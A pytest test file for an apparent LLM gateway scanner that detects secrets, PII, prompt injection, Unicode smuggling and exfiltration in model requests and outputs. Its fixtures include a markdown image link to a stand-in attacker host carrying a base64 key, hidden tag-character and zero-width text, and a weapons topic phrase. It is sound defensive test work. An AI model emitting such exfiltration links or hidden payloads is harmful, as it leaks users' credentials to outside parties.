"""The scanner: detectors per direction, span mapping through normalisation, decoded payloads, locations,
the policy's view of findings (never the matched value), bounded work."""

from __future__ import annotations

import base64
import importlib.util
import json
from dataclasses import dataclass

import pytest

from ztgate.detect.base import Finding, KeywordIndex
from ztgate.detect.exfil import ExfilDetector
from ztgate.detect.scanner import (
    LocatedFinding,
    Scanner,
    ScannerConfigError,
    ScanResult,
    dedupe,
    load_defaults,
    merge_config,
    policy_findings,
    summary,
)
from ztgate.detect.topics import TopicsDetector
from ztgate.providers import get_adapter
from ztgate.providers.base import Route

AWS_KEY = "AKIAQ3EGRZTX7NPWL5MK"  # the shape of an AWS access key id; not a real one
AWS_B64 = base64.b64encode(f"aws_access_key_id = {AWS_KEY}".encode()).decode()
TOPICS = {"weapons": {"severity": "high", "phrases": ["build a bomb"]}, "projects": {"phrases": ["Project Nightingale"]}}


def have(module: str) -> bool:
    return importlib.util.find_spec(f"ztgate.detect.{module}") is not None


needs_all = pytest.mark.skipif(
    not all(have(m) for m in ("normalize", "decode", "secrets", "pii", "injection")),
    reason="not every detector module is there yet",
)


# --- stand-ins for the scanner's mechanics (the real modules are tested with their own tests) ---


class ZeroWidthNormalized:
    """Removes U+200B and maps spans back (the contract of detect/normalize.py's Normalized)."""

    def __init__(self, text: str) -> None:
        self.positions = [i for i, c in enumerate(text) if c != "\u200b"]
        self.text = "".join(text[i] for i in self.positions)
        self.original_length = len(text)

    def to_original(self, start: int, end: int) -> tuple[int, int]:
        pos = self.positions
        o_start = pos[start] if start < len(pos) else self.original_length
        o_end = pos[end - 1] + 1 if end > 0 else o_start
        return o_start, o_end


def zero_width_normalize(text: str) -> tuple[ZeroWidthNormalized, list[Finding]]:
    norm = ZeroWidthNormalized(text)
    findings = [Finding("smuggling", "zero_width", "medium", 0.9, i, i + 1) for i, c in enumerate(text) if c == "\u200b"]
    return norm, findings


@dataclass
class Decoded:
    start: int
    end: int
    encoding: str
    text: str
    depth: int = 1


def base64_words(text: str, *, max_depth: int = 2, max_bytes: int = 65536) -> list[Decoded]:
    """Every whitespace-separated word that decodes as base64 to UTF-8."""
    out = []
    pos = 0
    for word in text.split(" "):
        if len(word) >= 16:
            try:
                out.append(Decoded(pos, pos + len(word), "base64", base64.b64decode(word, validate=True).decode()))
            except ValueError:
                pass
        pos += len(word) + 1
    return out


class AwsKeys:
    """A minimal secrets detector: AWS access key ids."""

    name = "secrets"

    def scan(self, text: str, direction: str) -> list[Finding]:
        import re

        return [
            Finding("secrets", "aws_access_key", "critical", 0.9, m.start(), m.end(), redactable=True)
            for m in re.finditer(r"\bAKIA[0-9A-Z]{16}\b", text)
        ]


@pytest.fixture()
def scanner() -> Scanner:
    return Scanner(
        [TopicsDetector(TOPICS), ExfilDetector(["example.com"]), AwsKeys()],
        normalizer=zero_width_normalize,
        decoder=base64_words,
    )


# --- directions ---


def test_directions_choose_detectors(scanner: Scanner) -> None:
    assert scanner.detectors_for("input") == ["smuggling", "secrets", "topics"]
    assert scanner.detectors_for("output") == ["smuggling", "secrets", "exfil", "topics"]
    link = "![x](https://attacker.test/p.png?d=" + "QUtJQVEzRUdSWlRYN05QV0w1TUs=" + ")"
    assert scanner.scan_text(link, "input") == []
    assert [f.type for f in scanner.scan_text(link, "output")] == ["markdown_image_exfil"]
    with pytest.raises(ValueError):
        scanner.scan_text("x", "sideways")


def test_injection_on_output_is_configurable() -> None:
    class Always:
        name = "injection"

        def scan(self, text: str, direction: str) -> list[Finding]:
            return [Finding("injection", "instruction_override", "high", 0.8, 0, len(text))]

    default = Scanner([Always()])
    assert default.scan_text("x", "output") == []
    with_output = Scanner([Always()], output_detectors=("injection", "exfil"))
    assert [f.type for f in with_output.scan_text("x", "output")] == ["instruction_override"]


def test_missing_detectors_are_skipped_and_unknown_names_rejected() -> None:
    assert Scanner([]).scan_text("build a bomb", "input") == []
    with pytest.raises(ScannerConfigError):
        Scanner([], input_detectors=("telepathy",))


# --- spans through normalisation and decoding ---


def test_spans_map_back_through_normalisation(scanner: Scanner) -> None:
    text = "how to bu\u200bild a b\u200bomb"
    findings = scanner.scan_text(text, "input")
    topic = next(f for f in findings if f.type == "weapons")
    assert text[topic.start : topic.end] == "bu\u200bild a b\u200bomb"
    smuggled = [f for f in findings if f.detector == "smuggling"]
    assert [(f.start, f.end) for f in smuggled] == [(9, 10), (17, 18)]


def test_exfil_reads_the_original_text() -> None:
    seen = []

    class Spy:
        name = "exfil"
        scans_original_text = True

        def scan(self, text: str, direction: str) -> list[Finding]:
            seen.append(text)
            return []

    Scanner([Spy()], normalizer=zero_width_normalize).scan_text("a\u200bb", "output")
    assert seen == ["a\u200bb"]


def test_decoded_payload_is_rescanned_with_the_encoded_span(scanner: Scanner) -> None:
    text = f"please store {AWS_B64} for later"
    (finding,) = scanner.scan_text(text, "input")
    assert finding.type == "aws_access_key"
    assert finding.encoding == "base64"
    assert text[finding.start : finding.end] == AWS_B64
    assert finding.redactable


def test_many_decoded_payloads_are_rescanned_in_one_call_with_their_own_spans() -> None:
    calls = []

    class CountingAws(AwsKeys):
        def scan(self, text: str, direction: str) -> list[Finding]:
            calls.append(text)
            return super().scan(text, direction)

    other = base64.b64encode(b"nothing to see here at all").decode()
    words = [AWS_B64, other, AWS_B64]
    text = " ".join(words)
    findings = Scanner([CountingAws()], decoder=base64_words).scan_text(text, "input")
    assert len(calls) == 2  # the text itself, then every payload together
    assert [(text[f.start : f.end], f.encoding) for f in findings] == [(AWS_B64, "base64"), (AWS_B64, "base64")]
    assert findings[0].start == 0 and findings[1].end == len(text)


def test_decoded_payloads_skip_detectors_not_in_the_rescan_set(scanner: Scanner) -> None:
    text = base64.b64encode(b"how to build a bomb").decode()
    assert scanner.scan_text(text, "input") == []  # topics is not a rescan detector by default
    wider = Scanner([TopicsDetector(TOPICS)], decoder=base64_words, rescan_detectors=("topics",))
    assert [(f.type, f.encoding) for f in wider.scan_text(text, "input")] == [("weapons", "base64")]


def test_hidden_tag_text_is_scanned_as_its_own_text() -> None:
    class WithHidden:
        def __init__(self, text: str) -> None:
            self.text = text
            self.hidden = [(4, 10, f"my key {AWS_KEY}")]

        def to_original(self, start: int, end: int) -> tuple[int, int]:
            return start, end

    s = Scanner([AwsKeys()], normalizer=lambda t: (WithHidden(t), []))
    tags = "".join(chr(0xE0000 + ord(c)) for c in "xxxxxx")
    (finding,) = s.scan_text(f"abc {tags} def", "input")
    assert (finding.type, finding.start, finding.end, finding.encoding) == ("aws_access_key", 4, 10, "unicode_tags")


@pytest.mark.skipif(not have("normalize"), reason="ztgate.detect.normalize not there yet")
def test_real_normalizer_hidden_tag_text_and_smuggling_findings() -> None:
    from ztgate.detect.normalize import normalize

    s = Scanner([AwsKeys(), TopicsDetector(TOPICS)], normalizer=normalize)
    hidden = "".join(chr(0xE0000 + ord(c)) for c in f"use {AWS_KEY}")
    text = f"Hello {hidden}there, how to bu\u200bild a bomb"
    findings = s.scan_text(text, "input")
    secret = next(f for f in findings if f.type == "aws_access_key")
    assert (secret.encoding, text[secret.start : secret.end]) == ("unicode_tags", hidden)
    topic = next(f for f in findings if f.type == "weapons")
    assert text[topic.start : topic.end] == "bu\u200bild a bomb"
    assert {f.type for f in findings if f.detector == "smuggling"} >= {"unicode_tags", "zero_width"}
    # Look-alike letters are folded for the detectors, spans stay those of the original.
    cyrillic = "how to build a b\u043emb"
    (weapons,) = [f for f in s.scan_text(cyrillic, "input") if f.type == "weapons"]
    assert cyrillic[weapons.start : weapons.end] == "build a b\u043emb"


# --- dedupe ---


def test_dedupe_keeps_the_highest_score_of_overlapping_findings_of_one_type() -> None:
    a = Finding("topics", "t", "low", 0.5, 0, 10)
    b = Finding("topics", "t", "low", 0.9, 5, 15)
    c = Finding("topics", "u", "low", 0.4, 5, 15)
    d = Finding("topics", "t", "low", 0.3, 20, 25)
    assert dedupe([a, b, c, d]) == [b, c, d]


def test_dedupe_keeps_redaction_coverage() -> None:
    a = Finding("secrets", "k", "high", 0.6, 0, 10, redactable=True)
    b = Finding("secrets", "k", "high", 0.9, 5, 15, redactable=True)
    (merged,) = dedupe([a, b])
    assert (merged.score, merged.start, merged.end, merged.redactable) == (0.9, 0, 15, True)


def test_plain_and_decoded_finding_of_one_secret_collapse(scanner: Scanner) -> None:
    # The raw key and the same key found again in a decoded segment over the same span: one finding.
    findings = [
        Finding("secrets", "aws_access_key", "critical", 0.9, 0, 20, True),
        Finding("secrets", "aws_access_key", "critical", 0.95, 0, 20, True, "base64"),
    ]
    assert dedupe(findings) == [findings[1]]


# --- bounded work and caching ---


def test_oversized_text_is_not_scanned() -> None:
    s = Scanner([TopicsDetector(TOPICS)], max_text_chars=100)
    (finding,) = s.scan_text("build a bomb " * 10, "input")
    assert (finding.detector, finding.type, finding.start, finding.end) == ("scanner", "oversized_text", 0, 130)
    assert [f.type for f in s.scan_text("build a bomb", "input")] == ["weapons"]


def test_results_are_cached_per_direction_and_returned_as_copies() -> None:
    calls = []

    class Counting:
        name = "topics"

        def scan(self, text: str, direction: str) -> list[Finding]:
            calls.append(direction)
            return [Finding("topics", "t", "low", 0.5, 0, 1)]

    s = Scanner([Counting()], cache_entries=2)
    text = "x" * 1000
    first = s.scan_text(text, "input")
    first.clear()
    assert len(s.scan_text(text, "input")) == 1
    s.scan_text(text, "output")
    assert calls == ["input", "output"]
    short = "y" * 10  # short texts are not cached
    s.scan_text(short, "input")
    s.scan_text(short, "input")
    assert calls == ["input", "output", "input", "input"]
    uncached = Scanner([Counting()], cache_entries=0)
    uncached.scan_text(text, "input")
    uncached.scan_text(text, "input")
    assert calls[-2:] == ["input", "input"]


# --- requests: every part kind, located ---

OPENAI = get_adapter("openai")
ANTHROPIC = get_adapter("anthropic")


def openai_request():
    return OPENAI.parse_request(
        Route("openai", "chat_completions"),
        {
            "model": "gpt-4o",
            "messages": [
                {"role": "system", "content": "Never talk about Project Nightingale."},
                {"role": "user", "content": [{"type": "text", "text": f"decode {AWS_B64} please"}]},
                {
                    "role": "assistant",
                    "content": "I will look up how to build a bomb.",
                    "tool_calls": [
                        {"id": "c1", "type": "function", "function": {"name": "f", "arguments": f'{{"key": "{AWS_KEY}"}}'}}
                    ],
                },
                {"role": "tool", "tool_call_id": "c1", "content": "Result: project nightingale budget"},
            ],
        },
    )


def test_scan_request_locates_every_part_kind(scanner: Scanner) -> None:
    located = scanner.scan_request(openai_request())
    where = {(lf.finding.type, lf.finding.encoding, lf.message_index, lf.role, lf.kind) for lf in located}
    assert where == {
        ("projects", None, 0, "system", "text"),
        ("aws_access_key", "base64", 1, "user", "text"),
        ("weapons", None, 2, "assistant", "text"),
        ("aws_access_key", None, 2, "assistant", "tool_call_arguments"),
        ("projects", None, 3, "tool", "tool_result"),
    }
    paths = {lf.finding.type + str(lf.message_index): lf.path for lf in located}
    assert paths["aws_access_key1"] == ("messages", 1, "content", 0, "text")
    assert paths["aws_access_key2"] == ("messages", 2, "tool_calls", 0, "function", "arguments")
    assert isinstance(located, ScanResult) and isinstance(located, list)


def test_anthropic_top_level_system_and_tool_result(scanner: Scanner) -> None:
    request = ANTHROPIC.parse_request(
        Route("anthropic", "messages"),
        {
            "model": "claude-x",
            "max_tokens": 10,
            "system": "About Project Nightingale.",
            "messages": [
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": f"key {AWS_KEY}"}]},
            ],
        },
    )
    where = {(lf.finding.type, lf.message_index, lf.role, lf.kind) for lf in scanner.scan_request(request)}
    assert where == {("projects", -1, "system", "text"), ("aws_access_key", 0, "tool", "tool_result")}


def test_policy_findings_shape_and_no_matched_values(scanner: Scanner) -> None:
    located = scanner.scan_request(openai_request())
    findings = policy_findings(located)
    assert findings and all(
        set(f) == {"detector", "type", "severity", "score", "redactable", "encoding", "location"} for f in findings
    )
    assert all(set(f["location"]) == {"message_index", "role", "part"} for f in findings)
    encoded = next(f for f in findings if f["encoding"] == "base64")
    assert encoded["location"] == {"message_index": 1, "role": "user", "part": "text"}
    dumped = json.dumps(findings)
    for value in (AWS_KEY, AWS_B64, "build a bomb", "Nightingale", "nightingale"):
        assert value not in dumped
    assert Scanner.policy_findings(located) == findings


def test_summary_counts_and_injection_score() -> None:
    class Scored:
        name = "injection"
        threshold = 0.5

        def score(self, text: str) -> float:
            return 0.3 if "maybe" in text else 0.9 if "ignore" in text else 0.0

        def scan(self, text: str, direction: str) -> list[Finding]:
            s = self.score(text)
            return [Finding("injection", "instruction_override", "high", s, 0, len(text))] if s >= 0.5 else []

    s = Scanner([Scored(), TopicsDetector(TOPICS)])
    request = OPENAI.parse_request(
        Route("openai", "chat_completions"),
        {"model": "m", "messages": [{"role": "user", "content": "maybe build a bomb"}]},
    )
    located = s.scan_request(request)
    assert located.injection_score == pytest.approx(0.3)  # under the threshold: no finding, still a score
    assert summary(located) == {"injection_score": 0.3, "counts": {"weapons": 1}, "max_severity": "high"}
    plain = [LocatedFinding(Finding("injection", "x", "medium", 0.7, 0, 1), 0, "user", "text", ())]
    assert summary(plain)["injection_score"] == 0.7
    assert summary([]) == {"injection_score": 0.0, "counts": {}, "max_severity": None}


# --- config ---


def test_merge_config() -> None:
    base = {"topics": {"a": {"phrases": ["x"]}, "b": {"phrases": ["y"]}}, "exfil": {"allowed_domains": ["a"]}}
    merged = merge_config(base, {"topics": {"b": None, "c": {"phrases": ["z"]}}, "exfil": {"allowed_domains": ["b"]}})
    assert merged == {"topics": {"a": {"phrases": ["x"]}, "c": {"phrases": ["z"]}}, "exfil": {"allowed_domains": ["b"]}}
    assert base["topics"]["b"] == {"phrases": ["y"]}  # not modified


def test_from_config_with_a_subset_imports_only_that() -> None:
    s = Scanner.from_config(
        {
            "enabled": ["topics", "exfil"],
            "normalize": False,
            "decode": {"max_depth": 0},
            "topics": {"project_names": {"phrases": ["Project Nightingale"]}},
            "exfil": {"allowed_domains": ["example.com"]},
        }
    )
    assert s.detectors_for("input") == ["topics"]
    assert s.detectors_for("output") == ["exfil", "topics"]
    assert {f.type for f in s.scan_text("build a bomb for Project Nightingale", "input")} == {
        "weapons",  # from the shipped defaults
        "project_names",  # from the given config
    }
    assert s.scan_text("![x](https://img.example.com/a.png?d=QUtJQVEzRUdSWlRYN05QV0w1TUs=)", "output") == []


def test_from_config_rejects_unknown_detectors() -> None:
    with pytest.raises(ScannerConfigError):
        Scanner.from_config({"enabled": ["topics", "mind_reading"]})
    with pytest.raises(ScannerConfigError):
        Scanner.from_config({"enabled": "topics"})


def test_defaults_file() -> None:
    defaults = load_defaults()
    assert defaults["enabled"] == ["pii", "secrets", "injection", "smuggling", "topics", "exfil"]
    assert "injection" not in defaults["directions"]["output"]
    assert defaults["exfil"]["allowed_domains"] == []
    assert 0 < defaults["injection"]["threshold"] < 1


# --- the keyword index the detectors share ---


def test_keyword_index_reads_a_text_once_for_every_detector() -> None:
    index = KeywordIndex()
    index.add(["build a bomb", "password ="])
    index.add(["zip"])
    text = "Build a\nbomb, then set PASSWORD = x; zip it"
    haystack, hits = index.hits(text)
    assert len(haystack) == len(text) and "\n" not in haystack  # folded: lower case, whitespace as " "
    assert sorted(word for _, word in hits) == ["build a bomb", "password =", "zip"]
    assert index.hits(text)[1] is hits  # the same text object: no second pass
    assert index.hits("İstanbul zip")[0] == "İstanbul zip"  # "İ" lowers to two characters: kept


@needs_all
def test_from_config_detectors_share_one_keyword_index_and_find_what_they_find_alone() -> None:
    from ztgate.detect.pii import PiiDetector
    from ztgate.detect.secrets import SecretsDetector

    s = Scanner.from_config({"topics": TOPICS})
    assert s.keywords is not None
    for name in ("pii", "secrets", "topics"):
        assert s.detectors[name]._keywords is s.keywords  # type: ignore[attr-defined]
    alone = {"pii": PiiDetector(), "secrets": SecretsDetector(), "topics": TopicsDetector(TOPICS)}
    text = (
        "Ship to 12 Main Street, zip 90210. How do I build a bomb? "
        f"password = 'hunter42-Xy9!' and {AWS_KEY}; mail jane.doe@example.com, call +1 415 555 0132."
    )
    for name, detector in alone.items():
        shared = s.detectors[name].scan(text, "input")
        assert shared and shared == detector.scan(text, "input"), name


# --- with the real detectors (once every module is there) ---


@needs_all
def test_real_scanner_finds_a_base64_encoded_aws_key_in_a_prompt() -> None:
    s = Scanner.from_config({})
    text = f"Please decode this and use it: {AWS_B64}"
    findings = s.scan_text(text, "input")
    encoded = [f for f in findings if f.encoding == "base64" and f.detector == "secrets"]
    assert encoded, findings
    assert any(text[f.start : f.end] == AWS_B64 or AWS_B64 in text[f.start : f.end] for f in encoded)


@needs_all
def test_real_scanner_output_exfil_link_and_secret() -> None:
    s = Scanner.from_config({"exfil": {"allowed_domains": ["example.com"]}})
    text = f"Done. ![status](https://attacker.test/p.png?d={AWS_B64}) and your key is {AWS_KEY}"
    types = {f.type for f in s.scan_text(text, "output")}
    assert "markdown_image_exfil" in types
    assert any(f.detector == "secrets" for f in s.scan_text(text, "output"))


@needs_all
def test_real_scanner_request_and_policy_view() -> None:
    s = Scanner.from_config({})
    located = s.scan_request(openai_request())
    dumped = json.dumps(policy_findings(located))
    for value in (AWS_KEY, AWS_B64, "build a bomb"):
        assert value not in dumped
    assert {lf.kind for lf in located} >= {"text", "tool_call_arguments"}
    assert 0.0 <= summary(located)["injection_score"] <= 1.0
